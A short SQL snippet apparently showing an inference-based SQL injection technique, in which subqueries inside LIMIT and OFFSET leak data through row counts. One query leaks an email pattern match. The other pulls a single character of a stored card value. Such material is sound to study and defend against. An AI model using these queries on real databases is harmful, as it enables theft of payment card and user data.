-- inference: LIMIT and OFFSET from a value
SELECT id FROM orders ORDER BY id LIMIT (SELECT count(*) FROM users WHERE email LIKE '%qxa%');

SELECT id FROM orders ORDER BY id OFFSET (SELECT ascii(substr(max(card), 5, 1)) FROM users) LIMIT 1;
